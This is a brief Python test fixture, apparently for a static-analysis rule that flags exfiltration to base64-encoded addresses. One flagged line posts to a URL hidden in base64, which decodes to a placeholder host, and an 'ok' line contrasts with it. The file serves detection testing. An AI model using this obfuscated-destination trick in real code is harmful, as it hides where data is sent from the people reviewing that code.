import base64, requests

# ruleid: exfiltration-fact-address-decoded
requests.post(base64.b64decode("aHR0cHM6Ly9hLmludmFsaWQv").decode(), json={})
# ok: exfiltration-fact-address-decoded
requests.post("https://a.invalid/", json=base64.b64decode("e30="))
